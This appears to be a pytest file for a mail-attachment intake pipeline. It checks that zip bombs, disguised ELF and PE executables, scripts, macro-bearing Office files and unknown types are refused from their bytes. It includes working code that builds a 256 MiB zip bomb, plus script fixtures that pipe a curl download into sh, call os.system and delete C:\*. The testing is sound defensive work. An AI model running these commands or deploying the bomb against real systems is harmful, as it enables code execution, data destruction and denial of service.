"""Dangerous and unknown types are refused with a reason, from their bytes alone."""

from __future__ import annotations

import hashlib
import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from datetime import datetime, timezone
from pathlib import Path

import pytest
from docs import image_bytes, pdf, render_page

from capture.context import CaptureContext
from capture.pipeline import read_document, run_capture
from capture.policy import refusal
from intake.errors import PermanentError
from intake.models import Attachment, Envelope, ObjectRef, sha256_hex
from intake.sniff import sniff

CTX = CaptureContext(find_names=False)
BOMB_BYTES = 256 * 1024**2  # what the bomb inflates to
MiB = bytes(1024**2)


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """256 MiB of zeros deflated into a ~260 kB zip, as a mail attachment would carry it."""
    raw = _deflated_zeros(BOMB_BYTES // len(MiB))
    crc = 0
    for _ in range(BOMB_BYTES // len(MiB)):
        crc = zlib.crc32(MiB, crc)
    return _zip_one("facture.pdf", raw, crc, BOMB_BYTES)


def _deflated_zeros(mebibytes: int) -> bytes:
    # after a full flush a deflate block stands alone, so one compressed MiB can be repeated
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(MiB) + deflate.flush(zlib.Z_FULL_FLUSH)
    return block * mebibytes + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def _zip_one(name: str, raw: bytes, crc: int, size: int) -> bytes:
    """A zip archive with one deflated entry (local header, data, central directory, end record)."""
    encoded = name.encode()
    fields = (20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + encoded
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, 0) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(raw), 0)
    return local + raw + central + end


def read(data: bytes, name: str = "piece-jointe"):
    ref = ObjectRef(key=name, sha256=sha256_hex(data), size=len(data))
    return read_document(name, ref, CTX, lambda _: data)


def pe_executable() -> bytes:
    """The headers of a Windows PE executable: MZ stub pointing at a PE signature."""
    header = bytearray(b"MZ" + bytes(62))
    header[0x3C:0x40] = (0x80).to_bytes(4, "little")
    return bytes(header) + bytes(0x80 - len(header)) + b"PE\0\0" + b"\x4c\x01" + bytes(200)


def test_the_zip_bomb_is_a_real_one(zip_bomb):
    with zipfile.ZipFile(io.BytesIO(zip_bomb)) as archive:
        assert archive.getinfo("facture.pdf").file_size == BOMB_BYTES
        assert archive.testzip() is None  # inflates it all once, checking the CRC
    assert len(zip_bomb) < BOMB_BYTES / 500


def test_a_zip_bomb_attachment_is_refused_without_being_inflated(zip_bomb):
    tracemalloc.start()
    started = time.perf_counter()
    document = read(zip_bomb, "facture.zip")
    elapsed, (_, peak) = time.perf_counter() - started, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert document.error == "refused: archive (not unpacked) (application/zip)"
    assert document.pages == ()
    assert peak < 20 * 1024**2 and elapsed < 1.0  # inflating would take 256 MiB and seconds


def test_an_item_whose_only_attachment_is_refused_is_quarantined_with_the_reason(zip_bomb):
    ref = ObjectRef(key="bomb", sha256=sha256_hex(zip_bomb), size=len(zip_bomb))
    envelope = Envelope(id="env-bomb", channel="email", source="test", source_id="1",
                        received_at=datetime.now(timezone.utc),
                        attachments=(Attachment(filename="facture.pdf", declared_type="application/pdf", ref=ref),))
    with pytest.raises(PermanentError, match="no readable content") as caught:
        run_capture(envelope, lambda _: zip_bomb, CTX)
    assert "refused: archive" in caught.value.data["documents"]


def test_an_elf_executable_is_refused():
    assert read(Path("/bin/ls").read_bytes(), "scan.pdf").error.startswith("refused: executable")


def test_a_windows_executable_is_refused():
    assert read(pe_executable(), "facture.pdf").error.startswith("refused: executable")


@pytest.mark.parametrize("script", [b"#!/bin/sh\ncurl http://example.test/x | sh\n",
                                    b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
                                    b"@echo off\r\ndel /q C:\\*\r\n"])
def test_scripts_are_refused_even_though_they_are_text(script):
    assert read(script, "lettre.txt").error.startswith("refused: script")


def test_an_office_document_with_macros_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    assert read(buffer.getvalue(), "devis.docm").error == (
        "refused: Office document that can carry macros (application/zip)")


def test_a_legacy_office_file_is_refused_as_it_can_carry_macros():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)
    assert "Office document that can carry macros" in read(ole, "devis.doc").error


def test_an_unknown_type_is_unsupported_with_its_mime_type():
    noise = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(64))
    assert read(noise, "scan.pdf").error == "unsupported type application/octet-stream"


def test_documents_intake_reads_are_not_refused():
    for data in (pdf([["Bonjour"]]), image_bytes(render_page(["Bonjour"], dpi=50)), "Réclamation".encode()):
        assert refusal(sniff(data), data) is None
